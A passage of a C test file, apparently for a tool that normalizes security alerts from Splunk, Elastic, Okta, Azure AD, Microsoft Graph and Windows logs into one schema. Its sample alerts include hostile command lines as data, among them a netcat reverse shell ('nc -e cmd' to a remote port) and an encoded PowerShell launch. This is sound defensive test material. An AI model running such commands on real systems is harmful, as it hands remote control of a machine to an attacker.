         "createdDateTime" : "2025-11-14T10:05:00Z",
         "vendorInformation" : {"provider" : "IPC", "vendor" : "Microsoft"},
         "hostStates" : [ {
             "fqdn" : "ws-l.corp.example",
             "privateIpAddress" : "10.0.0.12",
             "os" : "Windows 10",
             "publicIpAddress" : "198.51.100.9"
         } ],
         "userStates" : [ {
             "userPrincipalName" : "lee@corp.example",
             "logonIp" : "198.51.100.9",
             "domainName" : "corp.example"
         } ],
         "processes" : [ {
             "name" : "cmd.exe",
             "path" : "C:\\Windows\\System32\\cmd.exe",
             "processId" : 10,
             "commandLine" : "cmd /c whoami",
             "parentProcessName" : "explorer.exe",
             "parentProcessId" : 5,
             "fileHash" : {
                 "hashType" : "sha256",
                 "hashValue" : "9090909090909090909090909090909090909090909090909090909090909090"
             }
         } ],
         "fileStates" : [ {
             "name" : "x.bin",
             "path" : "C:\\Temp\\x.bin",
             "fileHash" :
                 {"hashType" : "sha1", "hashValue" : "abababababababababababababababababababab"}
         } ],
         "networkConnections" : [ {
             "sourceAddress" : "10.0.0.12",
             "sourcePort" : "50123",
             "destinationAddress" : "203.0.113.80",
             "destinationPort" : "443",
             "destinationDomain" : "c2.example"
         } ]
     }),
     EXPECT("kind=auth", "rule=Suspicious sign-in", "severity=30", "host.name=ws-l.corp.example",
            "host.ip=10.0.0.12", "host.os=Windows 10", "user.name=lee@corp.example",
            "user.email=lee@corp.example", "user.domain=corp.example", "src.ip=198.51.100.9",
            "process.name=cmd.exe", "process.path=C:\\Windows\\System32\\cmd.exe", "process.pid=10",
            "process.cmdline=cmd /c whoami", "process.parent.name=explorer.exe",
            "process.parent.pid=5",
            "process.sha256=9090909090909090909090909090909090909090909090909090909090909090",
            "file.name=x.bin", "file.path=C:\\Temp\\x.bin",
            "file.sha1=abababababababababababababababababababab", "dst.ip=203.0.113.80",
            "dst.port=443", "obs:domain:c2.example", "event_time=2025-11-14T10:00:00.000Z",
            "extra.msgraph.provider=IPC", "extra.msgraph.public_ip=198.51.100.9")},
};

/* --- Splunk -------------------------------------------------------------------------- */

static const struct accept_case SPLUNK[] = {
    {"ES notable, endpoint", "splunk", J({
         "_time" : "2025-11-15T10:00:00.000+00:00",
         "index" : "notable",
         "search_name" : "Endpoint - Suspicious Process - Rule",
         "rule_name" : "Suspicious Process",
         "rule_title" : "Suspicious process on $dest$",
         "security_domain" : "endpoint",
         "urgency" : "high",
         "severity" : "medium",
         "event_id" : "E1@@notable@@h1",
         "dest" : "WS-M",
         "dest_ip" : "10.3.3.3",
         "user" : "CORP\\mia",
         "process_name" : "rundll32.exe",
         "process" : "rundll32.exe x.dll,Start",
         "process_id" : "2000",
         "parent_process_name" : "winword.exe",
         "parent_process_id" : "1500",
         "file_name" : "x.dll",
         "file_path" : "C:\\Users\\mia\\x.dll",
         "file_hash" : "ABCDEFABCDEFABCDEFABCDEFABCDEFAB",
         "orig_tag" : [ "malware", "endpoint" ]
     }),
     EXPECT("kind=endpoint", "rule=Endpoint - Suspicious Process - Rule",
            "title=Suspicious Process", "severity=70", "event_time=2025-11-15T10:00:00.000Z",
            "host.name=ws-m", "host.ip=10.3.3.3", "dst.ip=10.3.3.3", "user.name=mia",
            "user.domain=CORP", "process.name=rundll32.exe",
            "process.cmdline=rundll32.exe x.dll,Start", "process.pid=2000",
            "process.parent.name=winword.exe", "process.parent.pid=1500", "file.name=x.dll",
            "file.path=C:\\Users\\mia\\x.dll", "file.md5=abcdefabcdefabcdefabcdefabcdefab",
            "extra.splunk.event_id=E1@@notable@@h1", "extra.splunk.urgency=high")},
    {"webhook envelope, access failure", "splunk", J({
         "sid" : "scheduler__admin__search__RMD5_at_1764000000_1",
         "search_name" : "Access - Brute Force - Rule",
         "app" : "SplunkEnterpriseSecuritySuite",
         "owner" : "admin",
         "results_link" : "https://splunk:8000/x",
         "result" : {
             "_time" : "1764000000",
             "security_domain" : "access",
             "urgency" : "medium",
             "src" : "203.0.113.200",
             "src_port" : "51515",
             "dest" : "vpn.corp.example",
             "user" : [ "nina", "nina2" ],
             "action" : "failure",
             "app" : "sshd",
             "reason" : "too many failures",
             "count" : "25"
         }
     }),
     EXPECT("kind=auth", "rule=Access - Brute Force - Rule", "severity=50",
            "event_time=2025-11-24T16:00:00.000Z", "src.ip=203.0.113.200", "src.port=51515",
            "host.name=vpn.corp.example", "user.name=nina", "auth.result=failure",
            "auth.method=sshd", "auth.reason=too many failures",
            "extra.splunk.sid=scheduler__admin__search__RMD5_at_1764000000_1",
            "extra.splunk.results_link=https://splunk:8000/x")},
};

static const struct reject_case SPLUNK_BAD[] = {
    {"a webhook with no search name",
     J({"sid" : "s1", "result" : {"_time" : "1764000000", "host" : "x"}}), RP_E_INVALID,
     "splunk: search_name: required"},
};

/* --- Elastic ----------------------------------------------------------------------------- */

static const struct accept_case ELASTIC[] = {
    {"8.x alert with dotted keys", "elastic", J({
         "@timestamp" : "2025-11-16T10:00:05.000Z",
         "kibana.alert.rule.name" : "Encoded PowerShell",
         "kibana.alert.rule.uuid" : "r-uuid",
         "kibana.alert.rule.rule_id" : "r-id",
         "kibana.alert.severity" : "high",
         "kibana.alert.risk_score" : 73,
         "kibana.alert.reason" : "process event on ws-n",
         "kibana.alert.uuid" : "al-1",
         "kibana.alert.workflow_status" : "open",
         "kibana.alert.original_time" : "2025-11-16T10:00:00.000Z",
         "kibana.alert.original_event.category" : ["process"],
         "kibana.alert.rule.threat" : [ {
             "framework" : "MITRE ATT&CK",
             "tactic" : {"id" : "TA0002", "name" : "Execution"},
             "technique" : [ {"id" : "T1059", "name" : "Command and Scripting Interpreter"} ]
         } ],
         "host" : {
             "name" : "ws-n",
             "id" : "h-n",
             "ip" : [ "10.4.4.4", "fe80::2" ],
             "os" : {"name" : "Windows", "full" : "Windows 10 Pro"}
         },
         "user" : {"name" : "olga", "domain" : "CORP"},
         "process" : {
             "name" : "powershell.exe",
             "executable" : "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "command_line" : "powershell -enc ZQBjAGgAbwA=",
             "pid" : 888,
             "hash" :
                 {"sha256" : "5656565656565656565656565656565656565656565656565656565656565656"},
             "parent" : {"name" : "cmd.exe", "pid" : 777, "command_line" : "cmd.exe /c ps.bat"}
         },
         "event" : {"category" : ["process"], "action" : "start"}
     }),
     EXPECT("kind=endpoint", "rule=Encoded PowerShell", "severity=73",
            "event_time=2025-11-16T10:00:00.000Z", "host.name=ws-n", "host.id=h-n",
            "host.ip=10.4.4.4", "host.os=Windows 10 Pro", "user.name=olga", "user.domain=CORP",
            "process.name=powershell.exe", "process.pid=888",
            "process.cmdline=powershell -enc ZQBjAGgAbwA=",
            "process.path=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "process.sha256=5656565656565656565656565656565656565656565656565656565656565656",
            "process.parent.name=cmd.exe", "process.parent.pid=777",
            "process.parent.cmdline=cmd.exe /c ps.bat", "extra.elastic.alert_id=al-1",
            "extra.elastic.tactics[0]=Execution", "extra.elastic.techniques[0]=T1059")},
    {"7.x signal in a search hit, authentication", "elastic", J({
         "_index" : ".siem-signals-default",
         "_id" : "sig-1",
         "_source" : {
             "@timestamp" : "2025-11-17T10:00:05Z",
             "signal" : {
                 "rule" : {"name" : "SSH brute force", "id" : "r7", "severity" : "medium"},
                 "original_time" : "2025-11-17T10:00:00Z",
                 "status" : "open"
             },
             "event" : {"category" : "authentication", "outcome" : "failure"},
             "source" : {
                 "ip" : "198.51.100.66",
                 "port" : 40000,
                 "geo" : {
                     "country_iso_code" : "NL",
                     "country_name" : "Netherlands",
                     "city_name" : "Amsterdam",
                     "location" : {"lat" : 52.37, "lon" : 4.89}
                 }
             },
             "destination" : {"ip" : "10.5.5.5", "port" : 22},
             "host" : {"hostname" : "bastion"},
             "user" : {"name" : "root"}
         }
     }),
     EXPECT("kind=auth", "rule=SSH brute force", "severity=50",
            "event_time=2025-11-17T10:00:00.000Z", "src.ip=198.51.100.66", "src.port=40000",
            "src.geo.country_code=NL", "src.geo.country=Netherlands", "src.geo.city=Amsterdam",
            "src.geo.lat=52.37", "dst.ip=10.5.5.5", "dst.port=22", "host.name=bastion",
            "user.name=root", "auth.result=failure", "extra.elastic.alert_id=sig-1",
            "extra.elastic.index=.siem-signals-default", "extra.elastic.workflow_status=open")},
};

/* --- Okta ----------------------------------------------------------------------------------- */

static const struct accept_case OKTA[] = {
    {"failed sign-in with high risk", "okta", J({
         "uuid" : "u-1",
         "published" : "2025-11-18T10:00:00.000Z",
         "eventType" : "user.session.start",
         "version" : "0",
         "severity" : "INFO",
         "legacyEventType" : "core.user_auth.login_failed",
         "displayMessage" : "User login to Okta",
         "actor" : {
             "id" : "00u1",
             "type" : "User",
             "alternateId" : "pat@corp.example",
             "displayName" : "Pat"
         },
         "client" : {
             "userAgent" : {"rawUserAgent" : "curl/8"},
             "zone" : "null",
             "device" : "Unknown",
             "ipAddress" : "203.0.113.150",
             "geographicalContext" : {
                 "city" : "Lagos",
                 "state" : "Lagos",
                 "country" : "Nigeria",
                 "postalCode" : null,
                 "geolocation" : {"lat" : 6.45, "lon" : 3.39}
             }
         },
         "outcome" : {"result" : "FAILURE", "reason" : "INVALID_CREDENTIALS"},
         "authenticationContext" : {"credentialType" : "PASSWORD", "externalSessionId" : "s1"},
         "securityContext" : {"isProxy" : true, "asOrg" : "hosting"},
         "debugContext" : {
             "debugData" :
                 {"risk" : "{level=HIGH, reasons=Anomalous Location}", "threatSuspected" : "false"}
         },
         "target" : [ {"type" : "AppInstance", "alternateId" : "Okta Dashboard"} ]
     }),
     EXPECT("kind=auth", "rule=user.session.start", "title=User login to Okta", "severity=70",
            "event_time=2025-11-18T10:00:00.000Z", "user.name=pat@corp.example",
            "user.email=pat@corp.example", "src.ip=203.0.113.150", "src.geo.city=Lagos",
            "src.geo.country=Nigeria", "src.geo.region=Lagos", "src.geo.lat=6.45",
            "auth.result=failure", "auth.reason=INVALID_CREDENTIALS", "auth.method=PASSWORD",
            "extra.okta.uuid=u-1", "extra.okta.is_proxy=true", "extra.okta.user_agent=curl/8",
            "extra.okta.targets[0]=AppInstance:Okta Dashboard")},
    {"admin suspends a user (lower-case keys)", "okta", J({
         "uuid" : "u-2",
         "published" : "2025-11-19T10:00:00.000Z",
         "eventtype" : "user.lifecycle.suspend",
         "severity" : "INFO",
         "displaymessage" : "Suspend Okta user",
         "actor" : {"type" : "PublicClientApp", "alternateId" : "automation"},
         "outcome" : {"result" : "SUCCESS"},
         "target" : [ {"type" : "User", "alternateId" : "quinn@corp.example", "id" : "00u9"} ]
     }),
     EXPECT("rule=user.lifecycle.suspend", "title=Suspend Okta user", "severity=10",
            "user.name=quinn@corp.example", "auth.result=success", "extra.okta.user_id=00u9",
            "extra.okta.actor_type=PublicClientApp")},
    {"account locked", "okta", J({
         "uuid" : "u-3",
         "published" : "2025-11-19T11:00:00Z",
         "eventType" : "user.account.lock",
         "severity" : "DEBUG",
         "displayMessage" : "Max sign in attempts exceeded",
         "actor" : {"type" : "User", "alternateId" : "rae@corp.example"},
         "client" : {"ipAddress" : "-"},
         "outcome" : {"result" : "FAILURE", "reason" : "LOCKED_OUT"}
     }),
     EXPECT("severity=50", "auth.result=locked", "auth.reason=LOCKED_OUT", "!src.ip",
            "!extra.okta.dropped")},
};

/* --- Azure AD --------------------------------------------------------------------------- */

static const struct accept_case AZUREAD[] = {
    {"Graph signIn, success", "azuread", J({
         "id" : "si-1",
         "createdDateTime" : "2025-11-20T10:00:00Z",
         "userDisplayName" : "Sam",
         "userPrincipalName" : "sam@corp.example",
         "userId" : "u-s",
         "appDisplayName" : "Office 365",
         "ipAddress" : "198.51.100.30",
         "clientAppUsed" : "Browser",
         "isInteractive" : true,
         "status" : {"errorCode" : 0, "failureReason" : "Other."},
         "deviceDetail" : {
             "deviceId" : "dev-s",
             "displayName" : "SAM-LAPTOP",
             "operatingSystem" : "Windows 10",
             "browser" : "Edge 120"
         },
         "location" : {
             "city" : "Paris",
             "state" : "Paris",
             "countryOrRegion" : "FR",
             "geoCoordinates" : {"latitude" : 48.85, "longitude" : 2.35}
         },
         "authenticationDetails" : [ {"authenticationMethod" : "Password", "succeeded" : true} ],
         "riskLevelDuringSignIn" : "none",
         "riskState" : "none"
     }),
     EXPECT("kind=auth", "rule=Azure AD sign-in", "title=Azure AD sign-in to Office 365",
            "severity=10", "event_time=2025-11-20T10:00:00.000Z", "user.name=sam@corp.example",
            "user.email=sam@corp.example", "src.ip=198.51.100.30", "src.geo.city=Paris",
            "src.geo.country_code=FR", "src.geo.lat=48.85", "host.name=sam-laptop", "host.id=dev-s",
            "host.os=Windows 10", "auth.result=success", "auth.method=Password", "!auth.reason",
            "extra.azuread.error_code=0", "extra.azuread.browser=Edge 120")},
    {"diagnostic log, risky failure", "azuread", J({
         "time" : "2025-11-21T10:00:00.1234567Z",
         "category" : "NonInteractiveUserSignInLogs",
         "resultType" : "50126",
         "callerIpAddress" : "203.0.113.77",
         "tenantId" : "ten",
         "properties" : {
             "userPrincipalName" : "tom@corp.example",
             "appDisplayName" : "Azure Portal",
             "status" : {"errorCode" : 50126, "failureReason" : "Invalid username or password"},
             "authenticationProtocol" : "ropc",
             "riskLevelDuringSignIn" : "high",
             "location" : {"countryOrRegion" : "RU", "city" : "Unknown"}
         }
     }),
     EXPECT("rule=Azure AD sign-in failure 50126",
            "title=Azure AD sign-in failed: Invalid username or password", "severity=70",
            "event_time=2025-11-21T10:00:00.123Z", "src.ip=203.0.113.77", "src.geo.country_code=RU",
            "!src.geo.city", "auth.result=failure", "auth.method=ropc",
            "auth.reason=Invalid username or password",
            "extra.azuread.category=NonInteractiveUserSignInLogs")},
};

static const struct reject_case AZUREAD_BAD[] = {
    {"a sign-in without its result",
     J({"category" : "SignInLogs", "properties" : {"userPrincipalName" : "x@corp.example"}}),
     RP_E_INVALID, "azuread: properties.status.errorCode: required"},
};

/* --- Windows (JSON) ------------------------------------------------------------------------ */

static const struct accept_case WINDOWS[] = {
    {"winlogbeat 4625", "windows", J({
         "@timestamp" : "2025-11-22T10:00:00.000Z",
         "event" : {"code" : "4625", "kind" : "event"},
         "host" : {"name" : "collector"},
         "winlog" : {
             "channel" : "Security",
             "event_id" : 4625,
             "computer_name" : "DC02.corp.example",
             "provider_name" : "Microsoft-Windows-Security-Auditing",
             "record_id" : 5551,
             "event_data" : {
                 "TargetUserName" : "uma",
                 "TargetDomainName" : "CORP",
                 "Status" : "0xc000006d",
                 "SubStatus" : "0xc000006a",
                 "LogonType" : "10",
                 "IpAddress" : "198.51.100.40",
                 "IpPort" : "3389",
                 "AuthenticationPackageName" : "NTLM",
                 "WorkstationName" : "ATTACKER",
                 "ProcessName" : "-",
                 "ProcessId" : "0x0"
             }
         }
     }),
     EXPECT("kind=auth", "rule=Windows 4625", "title=An account failed to log on", "severity=30",
            "event_time=2025-11-22T10:00:00.000Z", "host.name=dc02.corp.example", "user.name=uma",
            "user.domain=CORP", "src.ip=198.51.100.40", "src.port=3389", "auth.result=failure",
            "auth.method=RemoteInteractive", "auth.reason=wrong password (0xc000006a)",
            "!process.name", "!process.pid", "extra.windows.event_id=4625",
            "extra.windows.record_id=5551", "extra.windows.WorkstationName=ATTACKER")},
    {"winlogbeat 4624 over IPv4-mapped IPv6", "windows", J({
         "@timestamp" : "2025-11-22T11:00:00Z",
         "winlog" : {
             "event_id" : "4624",
             "computer_name" : "FS1",
             "event_data" : {
                 "TargetUserName" : "vic",
                 "TargetDomainName" : "CORP",
                 "LogonType" : "3",
                 "IpAddress" : "::ffff:10.6.6.6",
                 "IpPort" : "0",
                 "AuthenticationPackageName" : "Kerberos"
             }
         }
     }),
     EXPECT("kind=auth", "severity=10", "auth.result=success", "auth.method=Network",
            "src.ip=10.6.6.6", "!src.port", "host.name=fs1")},
    {"flat 4740 (NXLog)", "windows", J({
         "EventTime" : "2025-11-22 12:00:00",
         "Hostname" : "DC01.corp.example",
         "EventID" : 4740,
         "SourceName" : "Microsoft-Windows-Security-Auditing",
         "Channel" : "Security",
         "TargetUserName" : "wes",
         "TargetDomainName" : "WS-WES",
         "SubjectUserName" : "DC01$",
         "SubjectDomainName" : "CORP"
     }),
     EXPECT("kind=auth", "title=A user account was locked out", "severity=50", "auth.result=locked",
            "user.name=wes", "user.domain=CORP", "host.name=dc01.corp.example",
            "event_time=2025-11-22T12:00:00.000Z", "extra.windows.caller_computer=WS-WES")},
    {"flat 4688 (Fluent Bit)", "windows", J({
         "EventID" : "4688",
         "ProviderName" : "Microsoft-Windows-Security-Auditing",
         "TimeCreated" : "2025-11-22 13:00:00 +0100",
         "Computer" : "WS-X",
         "Channel" : "Security",
         "EventData" : {
             "SubjectUserName" : "xena",
             "SubjectDomainName" : "CORP",
             "NewProcessId" : "0x1f4",
             "NewProcessName" : "C:\\Tools\\nc.exe",
             "CommandLine" : "nc -e cmd 203.0.113.1 4444",
             "ProcessId" : "0x100",
             "ParentProcessName" : "C:\\Windows\\System32\\cmd.exe"
         }
     }),
     EXPECT("kind=other", "rule=Windows 4688", "severity=10", "event_time=2025-11-22T12:00:00.000Z",
            "user.name=xena", "process.name=nc.exe", "process.path=C:\\Tools\\nc.exe",
            "process.pid=500", "process.cmdline=nc -e cmd 203.0.113.1 4444",
            "process.parent.name=cmd.exe", "process.parent.pid=256", "!auth")},
};

static const struct reject_case WINDOWS_BAD[] = {
    {"an event id that is no number", J({"winlog" : {"event_id" : "logon", "computer_name" : "x"}}),
     RP_E_INVALID, "windows: winlog.event_id: must be an event number"},
};

/* --- documents of no vendor --------------------------------------------------------------- */

static const struct reject_case NOBODY[] = {
    {"a normalized alert",
     J({"title" : "t", "kind" : "endpoint", "host" : {"name" : "h"}, "source" : "x"}),
     RP_E_NOTFOUND, "no vendor recognised"},
    {"an array", J([ {"eventType" : "x"} ]), RP_E_NOTFOUND, "no vendor recognised"},
    {"type alone is not Carbon Black", J({"type" : "WATCHLIST", "title" : "x"}), RP_E_NOTFOUND,
     "no vendor recognised"},
};

#define RUN_ACCEPT(arr)                                                                            \
    for (size_t i = 0; i < sizeof(arr) / sizeof(arr[0]); i++)                                      \
    run_accept(&arr[i])
#define RUN_REJECT(arr)                                                                            \
    for (size_t i = 0; i < sizeof(arr) / sizeof(arr[0]); i++)                                      \
    run_reject(&arr[i])

static void t_crowdstrike(void **s)
{
    (void)s;
    RUN_ACCEPT(CROWDSTRIKE);
    RUN_REJECT(CROWDSTRIKE_BAD);
}

static void t_carbonblack(void **s)
{
    (void)s;
    RUN_ACCEPT(CARBONBLACK);
}

static void t_cylance(void **s)
{
    (void)s;
    RUN_ACCEPT(CYLANCE);
    RUN_REJECT(CYLANCE_BAD);
}

static void t_defender(void **s)
{
    (void)s;
    RUN_ACCEPT(DEFENDER);
    RUN_REJECT(DEFENDER_BAD);
}

static void t_msgraph(void **s)
{
    (void)s;
    RUN_ACCEPT(MSGRAPH);
}

static void t_splunk(void **s)
{
    (void)s;
    RUN_ACCEPT(SPLUNK);
    RUN_REJECT(SPLUNK_BAD);
}

static void t_elastic(void **s)
{
    (void)s;
    RUN_ACCEPT(ELASTIC);
}

static void t_okta(void **s)
{
    (void)s;
    RUN_ACCEPT(OKTA);
}

static void t_azuread(void **s)
{
    (void)s;
    RUN_ACCEPT(AZUREAD);
    RUN_REJECT(AZUREAD_BAD);
}

static void t_windows_json(void **s)
{
    (void)s;
    RUN_ACCEPT(WINDOWS);
    RUN_REJECT(WINDOWS_BAD);
}

static void t_no_vendor(void **s)
{
    (void)s;
    RUN_REJECT(NOBODY);
}

/* A value the gate would refuse is dropped, named in extra.<vendor>.dropped, and
 * the alert goes through. */
static void t_bad_values_dropped(void **s)
{
    (void)s;
    json_t *doc = load(J({
        "type" : "CB_ANALYTICS",
        "org_key" : "o",
        "reason" : "r",
        "severity" : 5,
        "device_internal_ip" : "10.0.0.999",
        "device_name" : "bad|name",
        "process_sha256" : "abc",
        "process_pid" : 99999999999,
        "first_event_timestamp" : "yesterday"
    }));
    json_t *a;
    struct rp_error err;
    assert_int_equal(vendor_normalize(doc, &a, NULL, &err), RP_OK);
    json_t *out = gate("dropped", a);
    expect_all("dropped", out,
               EXPECT("!host.ip", "!host.name", "!process.sha256", "!process.pid",
                      "extra.carbonblack.dropped[0]=host.name",
                      "extra.carbonblack.dropped[1]=host.ip",
                      "extra.carbonblack.dropped[2]=process.pid",
                      "extra.carbonblack.dropped[3]=process.sha256",
                      "extra.carbonblack.dropped[4]=event_time"));
    json_decref(out);
    json_decref(doc);
}

/* Long names are cut on a UTF-8 boundary and control characters replaced, so
 * that the gate accepts them. */
static void t_names_cleaned(void **s)
{
    (void)s;
    size_t n = RP_NAME_MAX_BYTES + 100;
    char *title = malloc(n + 1);
    assert_non_null(title);
    for (size_t i = 0; i < n; i += 2)
        memcpy(title + i, "\xC3\xA9", 2); /* é */
    title[n] = '\0';
    json_t *doc = json_pack("{s:s, s:s, s:s, s:s, s:s}", "kibana.alert.rule.name", title,
                            "host.name", "h1", "user.name", "line1\nline2\x01", "@timestamp",
                            "2025-11-01T00:00:00Z", "process.command_line", "a\tb");
    free(title);
    assert_non_null(doc);
    json_t *a;
    struct rp_error err;
    assert_int_equal(vendor_normalize(doc, &a, NULL, &err), RP_OK);
    json_t *out = gate("cleaned", a);
    const char *rule = field(out, "rule", NULL, 0);
    assert_true(strlen(rule) <= RP_NAME_MAX_BYTES);
    assert_int_equal(strlen(rule) % 2, 0);
    assert_string_equal(field(out, "user.name", NULL, 0), "line1 line2\xEF\xBF\xBD");
    assert_string_equal(field(out, "process.cmdline", NULL, 0), "a\tb");
    json_decref(out);
    json_decref(doc);
}

/* A folder that merely ends with the file's name is still joined with it; a
 * domain read where no user was found names nobody. */
static void t_paths_and_lone_domain(void **s)
{
    (void)s;
    json_t *doc = load(J({
        "title" : "t",
        "alertCreationTime" : "2025-11-01T00:00:00Z",
        "machineId" : "m",
        "computerDnsName" : "h",
        "evidence" : [
            {"entityType" : "Process", "fileName" : "a", "filePath" : "C:\\data"},
            {"entityType" : "File", "fileName" : "b.txt", "filePath" : "/srv/b.txt"}
        ]
    }));
    json_t *a;
    struct rp_error err;
    assert_int_equal(vendor_normalize(doc, &a, NULL, &err), RP_OK);
    json_t *out = gate("dir", a);
    expect_all("dir", out, EXPECT("process.path=C:\\data\\a", "file.path=/srv/b.txt"));
    json_decref(out);
    json_decref(doc);
    doc = load(J({
        "detection_id" : "d",
        "device" : {"device_id" : "x", "machine_domain" : "CORP"},
        "behaviors" : [ {"display_name" : "B"} ]
    }));
    assert_int_equal(vendor_normalize(doc, &a, NULL, &err), RP_OK);
    out = gate("domain", a);
    expect_all("domain", out, EXPECT("rule=B", "!user"));
    json_decref(out);
    json_decref(doc);
}

static void t_normalize_as(void **s)
{
    (void)s;
    json_t *doc = load(J({
        "eventType" : "user.session.start",
        "actor" : {"type" : "User"},
        "uuid" : "1",
        "outcome" : {"result" : "SUCCESS"}
    }));
    json_t *a = NULL;
    struct rp_error err;
    assert_int_equal(vendor_normalize_as("nosuch", doc, &a, &err), RP_E_NOTFOUND);
    assert_non_null(strstr(err.msg, "unknown vendor \"nosuch\""));
    assert_int_equal(vendor_normalize_as("crowdstrike", doc, &a, &err), RP_E_INVALID);
    assert_non_null(strstr(err.msg, "crowdstrike: not a crowdstrike document"));
    assert_null(a);
    assert_int_equal(vendor_normalize_as("OKTA", doc, &a, &err), RP_OK);
    json_decref(a);
    json_t *arr = json_array();
    assert_int_equal(vendor_normalize_as("okta", arr, &a, &err), RP_E_INVALID);
    json_decref(arr);
    json_decref(doc);
}

/* --- helpers --------------------------------------------------------------------------- */

static void t_get_paths(void **s)
{
    (void)s;
    json_t *d = load(J({
        "a" : {"b" : {"c" : 1}},
        "k.l.m" : 2,
        "x" : {"y.z" : 3},
        "EventType" : "e",
        "arr" : [ "first", "second" ]
    }));
    assert_int_equal(json_integer_value(vendor_get(d, "a.b.c")), 1);
    assert_int_equal(json_integer_value(vendor_get(d, "k.l.m")), 2);
    assert_int_equal(json_integer_value(vendor_get(d, "x.y.z")), 3);
    assert_string_equal(vendor_str(d, "eventtype"), "e");
    assert_string_equal(vendor_str(d, "arr"), "first");
    assert_null(vendor_get(d, "a.b.c.d"));
    assert_null(vendor_get(d, "a.q"));
    assert_null(vendor_get(d, ""));
    json_decref(d);
}

static void t_times(void **s)
{
    (void)s;
    static const struct {
        const char *json;
        long long ms; /* -1: refused */
    } T[] = {
        {"\"2025-11-01T10:00:00Z\"", 1761991200000LL},
        {"\"2025-11-01T10:00:00.1234567Z\"", 1761991200123LL},
        {"\"2025-11-01 10:00:00.000000000\"", 1761991200000LL},
        {"\"2025-11-01 10:00:00 +0100\"", 1761987600000LL},
        {"\"2025-11-01T10:00:00+01\"", 1761987600000LL},
        {"\"2025-11-01T10:00:00-05:00\"", 1762009200000LL},
        {"\"2025-11-01 10:00:00 UTC\"", 1761991200000LL},
        {"1761991200", 1761991200000LL},
        {"1761991200123", 1761991200123LL},
        {"1761991200123456", 1761991200123LL},
        {"\"1761991200.5\"", 1761991200500LL},
        {"[\"2025-11-01T10:00:00Z\"]", 1761991200000LL},
        {"\"1970-01-01 00:00:00Z\"", -1},
        {"0", -1},
        {"\"12345\"", -1},
        {"\"2025-11-01X10:00:00Z\"", -1},
        {"\"2025-13-01T10:00:00Z\"", -1},
        {"\"2025-11-01T10:00:00+0\"", -1},
        {"\"yesterday\"", -1},
        {"true", -1},
    };
    for (size_t i = 0; i < sizeof(T) / sizeof(T[0]); i++) {
        json_t *v = json_loads(T[i].json, JSON_DECODE_ANY, NULL);
        assert_non_null(v);
        int64_t ms = 0;
        bool ok = vendor_time_ms(v, &ms);
        if (ok != (T[i].ms >= 0) || (ok && ms != T[i].ms))
            fail_msg("time %s: %s %lld, expected %lld", T[i].json, ok ? "ok" : "refused",
                     (long long)ms, T[i].ms);
        json_decref(v);
    }
}

static void t_placeholders_ints(void **s)
{
    (void)s;
    assert_true(vendor_placeholder(" - "));
    assert_true(vendor_placeholder("N/A"));
    assert_true(vendor_placeholder("Unknown"));
    assert_true(vendor_placeholder(""));
    assert_false(vendor_placeholder("NA"));
    assert_false(vendor_placeholder("alice"));
    long long x;
    json_t *v = json_string("0x1bc");
    assert_true(vendor_int(v, &x));
    assert_int_equal(x, 444);
    json_decref(v);
    v = json_string("12a");
    assert_false(vendor_int(v, &x));
    json_decref(v);
    v = json_real(3.5);
    assert_false(vendor_int(v, &x));
    json_decref(v);
    assert_string_equal(vendor_basename("C:\\a\\b.exe"), "b.exe");
    assert_string_equal(vendor_basename("/usr/bin/sh"), "sh");
    assert_int_equal(vendor_severity_label("Critical"), 90);
    assert_int_equal(vendor_severity_label("Informational"), 10);
    assert_int_equal(vendor_severity_label("UnSpecified"), -1);
}

/* --- Windows Event XML --------------------------------------------------------------------- */

static const char XML_4624[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n"
    " <System>\n"
    "  <Provider Name=\"Microsoft-Windows-Security-Auditing\" "
    "Guid=\"{54849625-5478-4994-a5ba-3e3b0328c30d}\"/>\n"
    "  <EventID>4624</EventID><Version>2</Version><Level>0</Level>\n"
    "  <TimeCreated SystemTime=\"2025-11-23T10:00:00.123456700Z\"/>\n"
    "  <EventRecordID>98765</EventRecordID>\n"
    "  <Channel>Security</Channel><Computer>SRV-APP.corp.example</Computer><Security/>\n"
    " </System>\n"
    " <EventData>\n"
    "  <Data Name=\"SubjectUserName\">SRV-APP$</Data>\n"
    "  <Data Name=\"TargetUserName\">yuri</Data>\n"
    "  <Data Name=\"TargetDomainName\">CORP</Data>\n"
    "  <Data Name=\"LogonType\">10</Data>\n"
    "  <Data Name=\"AuthenticationPackageName\">Negotiate</Data>\n"
    "  <Data Name=\"ProcessId\">0x2c4</Data>\n"
    "  <Data Name=\"ProcessName\">C:\\Windows\\System32\\svchost.exe</Data>\n"
    "  <Data Name=\"IpAddress\">203.0.113.44</Data>\n"
    "  <Data Name=\"IpPort\">50123</Data>\n"
    "  <Data Name=\"WorkstationName\">HOME-PC &amp; co</Data>\n"
    " </EventData>\n"
    "</Event>\n";

static const char XML_4740[] =
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4740</EventID>"
    "<TimeCreated SystemTime='2025-11-23T11:00:00Z'/><Channel>Security</Channel>"
    "<Computer>DC1</Computer></System><EventData><Data Name='TargetUserName'>zoe</Data>"
    "<Data Name='TargetDomainName'>WS-ZOE</Data><Data Name='SubjectUserName'>DC1$</Data>"
    "<Data Name='SubjectDomainName'>CORP</Data></EventData></Event>";

static json_t *xml_ok(const char *xml)
{
    json_t *a = NULL;
    struct rp_error err;
    if (winevent_xml_parse_alert(xml, strlen(xml), &a, &err) != RP_OK)
        fail_msg("XML refused: %s", err.msg);
    assert_string_equal(json_string_value(json_object_get(a, "raw")), xml);
    return gate("xml", a);
}

static void t_winevent_xml(void **s)
{
    (void)s;
    json_t *out = xml_ok(XML_4624);
    expect_all("xml 4624", out,
               EXPECT("kind=auth", "source=windows", "rule=Windows 4624",
                      "title=An account was successfully logged on", "severity=10",
                      "event_time=2025-11-23T10:00:00.123Z", "host.name=srv-app.corp.example",
                      "user.name=yuri", "user.domain=CORP", "src.ip=203.0.113.44", "src.port=50123",
                      "process.name=svchost.exe", "process.path=C:\\Windows\\System32\\svchost.exe",
                      "process.pid=708", "auth.result=success", "auth.method=RemoteInteractive",
                      "extra.windows.record_id=98765", "extra.windows.channel=Security",
                      "extra.windows.WorkstationName=HOME-PC & co"));
    json_decref(out);
    out = xml_ok(XML_4740);
    expect_all("xml 4740", out,
